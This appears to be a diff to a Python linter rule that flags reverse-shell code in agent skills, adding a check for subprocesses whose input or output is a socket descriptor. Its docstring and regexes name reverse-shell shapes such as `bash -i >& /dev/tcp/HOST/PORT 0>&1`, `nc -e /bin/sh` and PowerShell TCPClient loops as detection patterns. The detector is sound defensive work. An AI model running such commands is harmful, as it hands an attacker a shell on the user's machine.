@@ -1,11 +1,13 @@
 """SKC403 reverse-shell: A script connects a shell to a remote host.
 
 ## What it does
-Finds the classic reverse-shell shapes: `bash -i >& /dev/tcp/HOST/PORT 0>&1`,
+Finds the classic reverse-shell shapes: `bash -i >& /dev/tcp/HOST/PORT 0>&1` (any
+redirection to a remote `/dev/tcp`, also in a Dockerfile `CMD` or `HEALTHCHECK`),
 `nc -e /bin/sh`, `ncat --exec`, `socat … exec:`, a `mkfifo` pipe through `nc` into a
 shell, Python that connects a socket and then `os.dup2`s it or spawns a shell
-(`pty.spawn`, `subprocess` with the socket as stdin), Node `net` sockets piped into a
-spawned shell, and PowerShell `TCPClient` loops that `Invoke-Expression` what they read.
+(`pty.spawn`, `subprocess` with the socket's descriptor as stdin/stdout, however it got
+there), Node `net` sockets piped into a spawned shell, and PowerShell `TCPClient` loops
+that `Invoke-Expression` what they read.
 
 ## Why is this bad?
 It hands an interactive shell on the user's machine, with the agent's permissions, to
@@ -50,6 +52,9 @@ TEXT_TOOLS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "awk
 SHELL_PATH = re.compile(r"/bin/(ba|z|da)?sh\b|\bcmd(\.exe)?\b|powershell|\bpty\.spawn|"
                         r"['\"](ba|z)?sh['\"]")
 PY_SOCKET = re.compile(r"socket\.socket\(|create_connection\(|\.connect\(\s*\(")
+# What a process's stdin/stdout is, followed through assignments, that makes it a socket.
+PY_SOCKET_END = re.compile(r"\.fileno\(\)|\.makefile\(|socket\.socket\(|create_connection\(|"
+                           r"\.accept\(\)")
 PY_REDIRECT = re.compile(r"os\.dup2\(|pty\.spawn\(|stdin\s*=\s*\w*\.?(fileno|makefile)|"
                          r"stdin\s*=\s*s\b|stdout\s*=\s*s\b")
 JS_SOCKET = re.compile(r"net\.(connect|createConnection|Socket)\b|new\s+net\.Socket|"
@@ -96,8 +101,8 @@ def _check(skill) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
                 yield report(RULE, unit, access.line, "a redirection goes to a /dev/tcp "
                              "socket", HELP)
         calls = "\n".join(c.text for c in facts.calls)
-        if PY_SOCKET.search(calls) and PY_REDIRECT.search(calls) and SHELL_PATH.search(
-                calls + unit.text):
+        if PY_SOCKET.search(calls) and (PY_REDIRECT.search(calls) or _socket_as_stdio(
+                facts)) and SHELL_PATH.search(calls + unit.text):
             line = next(c.line for c in facts.calls if PY_SOCKET.search(c.text))
             yield report(RULE, unit, line, "a socket is connected and a shell is attached "
                          "to it", HELP)
@@ -111,3 +116,11 @@ def _check(skill) -> Iterator[Diagnostic]:  # type: ignore[no-untyped-def]
                 line = unit.first_line + unit.text.count("\n", 0, m.start())
                 yield report(RULE, unit, line, "a TCP client runs what it receives with "
                              "Invoke-Expression", HELP)
+
+
+def _socket_as_stdio(facts) -> bool:  # type: ignore[no-untyped-def]
+    """`fd = s.fileno(); subprocess.call([...], stdin=fd, stdout=fd)`: a process whose input
+    or output is a socket, however the descriptor reached it."""
+    return any(PY_SOCKET_END.search(facts.resolve(value))
+               for call in facts.calls if call.language == "python"
+               for key, value in call.kwargs if key in ("stdin", "stdout"))
